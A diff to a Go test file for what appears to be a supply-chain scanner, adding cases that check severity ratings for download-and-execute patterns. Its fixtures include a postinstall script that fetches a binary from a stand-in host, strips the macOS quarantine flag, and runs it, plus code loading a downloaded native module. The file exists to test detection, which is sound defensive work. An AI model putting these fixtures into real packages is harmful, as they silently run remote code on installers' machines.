@@ -18,6 +18,10 @@ execFileSync(binPath, ["--version"])`
 
 func TestDownloadExecute(t *testing.T) {
 	rt.Check(t, DownloadExecute{}, []rt.Case{
+		// the quarantine flag stripped from an unknown host's download
+		{"strips_quarantine_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const fs=require("fs"),https=require("https"),{execSync}=require("child_process"); https.get("https://x.example.invalid/bin/helper", r => { const o = fs.createWriteStream("/tmp/.h"); r.pipe(o); o.on("finish", () => { execSync("xattr -d com.apple.quarantine /tmp/.h"); execSync("chmod +x /tmp/.h"); execSync("/tmp/.h") }) })`}, finding.SeverityCritical},
+		{"strips_quarantine_trusted", map[string]string{"index.js": `const fs=require("fs"),https=require("https"),{execSync}=require("child_process"); https.get("https://github.com/o/r/releases/download/v1/tool-darwin.tar.gz", r => r.pipe(fs.createWriteStream(p))); execSync("xattr -cr " + app); execSync(app)`}, finding.SeverityLow},
 		{"raw_ip_temp_exe", map[string]string{"postinstall.js": dropper}, finding.SeverityCritical},
 		{"native_module_loaded", map[string]string{"index.js": `const https = require("https"), fs = require("fs");
 https.get("https://dl.example.invalid/a.node", r => r.pipe(fs.createWriteStream("/tmp/a.node")).on("finish", () => process.dlopen({ exports: {} }, "/tmp/a.node")))`}, finding.SeverityCritical},
